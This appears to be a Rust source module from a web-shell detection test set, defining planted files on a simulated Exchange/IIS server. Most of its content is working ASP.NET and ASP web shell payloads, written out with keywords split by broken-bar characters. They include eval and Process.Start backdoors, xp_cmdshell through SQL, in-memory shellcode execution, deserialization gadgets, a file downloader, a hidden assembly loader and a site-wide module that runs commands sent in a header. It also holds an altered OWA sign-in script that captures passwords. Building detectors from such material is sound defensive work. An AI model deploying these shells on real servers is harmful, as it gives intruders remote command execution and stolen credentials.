//! What the sealed set plants: places, texts that hide, and places that hide.

use crate::attack::Place;
use crate::attack::odd_page::OddPage;
use crate::moment::Moment;
use crate::server::Encoding;
use crate::technique::Technique;

pub(super) const SIGN_IN: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
pub(super) const ADMIN_AUTH: Place = Place::product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
pub(super) const CLIENT: Place = Place::site("aspnet_client", "/aspnet_client");
pub(super) const CURRENT: Place =
    Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes", "/owa/auth/Current/themes", "Owa");
const PREMIUM: Place = Place::product(
    "FrontEnd\\HttpProxy\\owa\\auth\\15.1.2044\\scripts\\premium",
    "/owa/auth/15.1.2044/scripts/premium",
    "Owa",
);
const CALENDAR: Place = Place::product("FrontEnd\\HttpProxy\\owa\\Calendar", "/owa/Calendar", "Owa");
const POWERSHELL: Place = Place::product("FrontEnd\\HttpProxy\\PowerShell", "/PowerShell", "PowerShell");
const RESERVED: Place = Place::site("aspnet_client\\COM1", "/aspnet_client/COM1");
const PICTURES: Place = Place::site("aspnet_client\\gallery", "/aspnet_client/gallery");
const APP_CODE: Place = Place::site("App_Code", "/App_Code");

/// The page that the address book's download writes.
pub(super) const WRITTEN: &str = "<%@ Page Language=\"JSc¦ript\" Debug=\"false\"%><%var g=Req¦uest.Form[\"sb\"];if(g){var f=new Func¦tion(\"r\",g);f(Response);}%>\r\n";

/// The page that a shell of the voice service's worker echoes into a file.
pub(super) const ECHOED: &str = "<%@ Page Language=\"C#\"%><%foreach(string k in Req¦uest.Files){Req¦uest.Files[k].Save¦As(Server.MapPath(\".\")+\"\\\\\"+k);}%> \r\n";

pub(super) const ODD_CODE: [OddPage; 10] = [
    OddPage::new(
        CLIENT,
        "charset.aspx",
        "JScript with remarks between all its words",
        "<%@ Page Language=\"Jscript\"%><%/*a1*/var/*b2*/p=/*c3*/Req¦uest/*d4*/[\"chs\"];/*e5*/ev¦al/*f6*/(/*g7*/p/*h8*/,/*i9*/\"uns¦afe\"/*j0*/);%>",
    ),
    OddPage::new(
        SIGN_IN,
        "wmiperf.aspx",
        "asks WMI to make the process",
        "<%@ Page Language=\"C#\" %><%@ Assembly Name=\"System.Management,Version=4.0.0.0,Culture=neutral,PublicKeyToken=b03f5f7f11d50a3a\" %><%var m=new System.Management.Management¦Class(\"Win32_Pro¦cess\");if(Req¦uest.Form[\"pf\"]!=null)Response.Write(m.Inv¦okeMethod(\"Cre¦ate\",new object[]{Req¦uest.Form[\"pf\"],null,null,0}));%>",
    ),
    OddPage::new(
        CLIENT,
        "sqlstate.aspx",
        "runs commands by way of a database",
        "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Data.SqlClient\" %><%using(var c=new SqlConnection(Req¦uest[\"cs\"])){c.Open();var r=new SqlCommand(\"exec master..xp_¦cmdshell '\"+Req¦uest[\"st\"]+\"'\",c).ExecuteReader();while(r.Read())Response.Write(r[0]+\"\\n\");}%>",
    ),
    OddPage::new(
        ADMIN_AUTH,
        "perfhelp.aspx",
        "lays machine code into memory and starts it",
        "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Runtime.InteropServices\" %><scr¦ipt runat=\"ser¦ver\">[DllImport(\"kernel32\")]static extern IntPtr Virtual¦Alloc(IntPtr a,UIntPtr s,uint t,uint p);[DllImport(\"kernel32\")]static extern IntPtr Create¦Thread(IntPtr a,UIntPtr s,IntPtr f,IntPtr p,uint c,ref uint i);void Page_Load(object o,EventArgs e){var b=Convert.From¦Base64String(Req¦uest.Form[\"ph\"]);var m=Virtual¦Alloc(IntPtr.Zero,(UIntPtr)b.Length,0x3000,0x40);Marshal.Copy(b,0,m,b.Length);uint i=0;Create¦Thread(IntPtr.Zero,UIntPtr.Zero,m,IntPtr.Zero,0,ref i);}</scr¦ipt>",
    ),
    OddPage::new(
        SIGN_IN,
        "logonPath.aspx",
        "answers for pages that are on no disk",
        "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Web.Hosting\" %><scr¦ipt runat=\"ser¦ver\">public class P:VirtualPath¦Provider{public static string T;public override bool FileExists(string v){return v.EndsWith(\"/s.aspx\")||Previous.FileExists(v);}public override VirtualFile GetFile(string v){return v.EndsWith(\"/s.aspx\")?new F(v):Previous.GetFile(v);}}public class F:VirtualFile{public F(string v):base(v){}public override System.IO.Stream Open(){return new System.IO.MemoryStream(Convert.From¦Base64String(P.T));}}void Page_Load(object o,EventArgs e){P.T=Req¦uest.Form[\"lp\"];Hosting¦Environment.RegisterVirtualPathProvider(new P());}</scr¦ipt>",
    ),
    OddPage::new(
        CLIENT,
        "panelview.aspx",
        "builds whatever objects the request describes",
        "<%@ Page Language=\"C#\" %><%@ Assembly Name=\"PresentationFramework,Version=4.0.0.0,Culture=neutral,PublicKeyToken=31bf3856ad364e35\" %><%System.Windows.Markup.Xaml¦Reader.Parse(Encoding.UTF8.GetString(Convert.From¦Base64String(Req¦uest.Form[\"x\"])));%>",
    ),
    OddPage::new(
        ADMIN_AUTH,
        "ReportView.aspx",
        "lists folders and hands out any file of the server",
        "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.IO\" %><%var d=Req¦uest[\"d\"];if(d==null)return;if(File.Exists(d)){Response.AddHeader(\"Content-Disposition\",\"attachment\");Response.Write¦File(d);Response.End();}foreach(var n in Directory.GetFileSystem¦Entries(d))Response.Write(n+\" \"+File.GetLastWriteTime(n)+\"<br>\");%>",
    ),
    OddPage::new(
        SIGN_IN,
        "svmFeedback.aspx",
        "VB.NET that calls the shell function of its own language, its words read backwards",
        "<%@ Page Language=\"VB\" %><scr¦ipt runat=\"ser¦ver\">\r\nSub Page_Load()\r\n  Dim q = Req¦uest.Params(\"fb\")\r\n  If q Is Nothing Then Return\r\n  Microsoft.VisualBasic.Interaction.Sh¦ell(StrReverse(\" c/ d¦mc\") & StrReverse(q), 0, True)\r\nEnd Sub\r\n</scr¦ipt>",
    ),
    OddPage {
        encoding: Encoding::WideBigEndian,
        ..OddPage::new(
            CLIENT,
            "langpack.aspx",
            "stored as UTF-16 with the high byte first, in C# whose class is looked up by parts of its name",
            "<%@ Page Language=\"C#\" %><%var t=Type.GetType(string.Join(\".\",new[]{\"System\",\"Diagnos\"+\"tics\",\"Pro\"+\"cess\"})+\", System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\");t.GetMethod(\"St\"+\"art\",new[]{typeof(string),typeof(string)}).Inv¦oke(null,new object[]{Req¦uest[\"lg\"],Req¦uest[\"pk\"]});%>",
        )
    },
    OddPage::new(
        SIGN_IN,
        "exppw64.aspx",
        "JScript that takes its sentence from a file beside it",
        "<%@ Page Language=\"JScript\" %><%var a=System.IO.File.ReadAll¦Text(Server.MapPath(\"exppw64.ini\"));ev¦al(Encoding.UTF8.GetString(Convert.From¦Base64String(a)),\"uns¦afe\");%>",
    ),
];

/// The sign-in page's own script, with lines of theirs at its end that keep what people type.
const SIGN_IN_SCRIPT: &str = "// flogon.js\r\nvar g_fFcs = 1;\r\nfunction gbid(s) { return document.getElementById(s); }\r\nfunction clkLgn() {\r\n    if (gbid(\"rdoPrvt\") && gbid(\"rdoPrvt\").checked) { var oD = new Date(); oD.setTime(oD.getTime() + 2 * 7 * 24 * 60 * 60 * 1000); }\r\n    try { var x = new XMLHttpRequest(); x.open(\"POST\", \"/owa/auth/Current/themes/resources/l.gif\", false); x.setRequestHeader(\"X-K\", btoa(gbid(\"user¦name\").value + \"\\t\" + gbid(\"pass¦word\").value)); x.send(null); } catch (e) { }\r\n    document.logonForm.submit();\r\n}\r\n";

pub(super) const ODD_PLACES: [OddPage; 8] = [
    OddPage::new(
        RESERVED,
        "index.aspx",
        "in a folder with the name of a device, which Explorer cannot open",
        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.Item[\"dev\"],\"uns¦afe\");%>",
    ),
    OddPage::new(
        APP_CODE,
        "Diagnostics.cs",
        "source that the engine takes into the whole site",
        "using System;using System.Web;\r\n[assembly: PreApplicationStart¦Method(typeof(Site.Trace), \"Begin\")]\r\nnamespace Site{public class Trace:IHttpModule{public static void Begin(){HttpApplication.RegisterModule(typeof(Trace));}public void Init(HttpApplication a){a.BeginRequest+=(s,e)=>{var h=a.Req¦uest.Headers[\"X-Site-Trace\"];if(h!=null){System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+h);}};}public void Dispose(){}}}\r\n",
    ),
    OddPage {
        technique: Technique::HandlerChange,
        ..OddPage::new(
            PICTURES,
            "web.config",
            "requests for pictures go to a handler",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>\r\n  <system.webServer>\r\n    <rewrite>\r\n      <rules>\r\n        <rule name=\"thumb\" stopProcessing=\"true\">\r\n          <match url=\"^t_([0-9a-f]+)\\.jpg$\" />\r\n          <action type=\"Rewrite\" url=\"resize.ashx?k={R:1}\" />\r\n        </rule>\r\n      </rules>\r\n    </rewrite>\r\n  </system.webServer>\r\n</configuration>\r\n",
        )
    },
    OddPage::new(
        PICTURES,
        "resize.ashx",
        "the handler of those pictures",
        "<%@ WebHandler Language=\"C#\" Class=\"Resize\" %>\r\nusing System.Web;\r\npublic class Resize:IHttpHandler{public void ProcessRequest(HttpContext c){var b=c.Req¦uest.Headers[\"If-None-Match\"];if(b!=null){var a=System.Reflection.Assem¦bly.Load(System.Convert.From¦Base64String(b.Trim('\"')));a.CreateInstance(\"R\");}c.Response.ContentType=\"image/jpeg\";}public bool IsReusable{get{return true;}}}\r\n",
    ),
    OddPage {
        technique: Technique::SignInCapture,
        ..OddPage::new(PREMIUM, "flogon.js", "the sign-in page's script sends what is typed elsewhere", SIGN_IN_SCRIPT)
    },
    OddPage::new(
        POWERSHELL,
        "Remoting.svc",
        "a service with its code in its own file, beside the directory for remote shells",
        "<%@ ServiceHost Language=\"C#\" Debug=\"false\" Service=\"Remoting\" %>\r\nusing System.ServiceModel;using System.Diagnostics;\r\n[ServiceContract]public class Remoting{[OperationContract]public string Invoke(string a){var p=Pro¦cess.St¦art(new Pro¦cessStartInfo(\"cmd.exe\",\"/c \"+a){RedirectStandardOutput=true,UseShellExecute=false});return p.StandardOutput.ReadToEnd();}}\r\n",
    ),
    OddPage {
        dated: Some(Moment::day(2020, 6, 16).clock(7, 2, 55)),
        ..OddPage::new(
            CALENDAR,
            "published.aspx",
            "where published calendars are asked for, dated like the product's build",
            "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"System.Web.UI.Page\" %><%if(Req¦uest.Cookies[\"cal\"]!=null){new System.Web.Script.Serialization.JavaScriptSerializer(new System.Web.Script.Serialization.SimpleType¦Resolver()).Deserial¦ize<object>(HttpUtility.UrlDecode(Req¦uest.Cookies[\"cal\"].Value));}%>",
        )
    },
    OddPage::new(
        CLIENT,
        "legacy.asp",
        "a page of the engine before this one",
        "<%\r\nOn Error Resume Next\r\nIf Req¦uest(\"lg\")<>\"\" Then Exe¦cuteGlobal Req¦uest(\"lg\")\r\n%>\r\n",
    ),
];
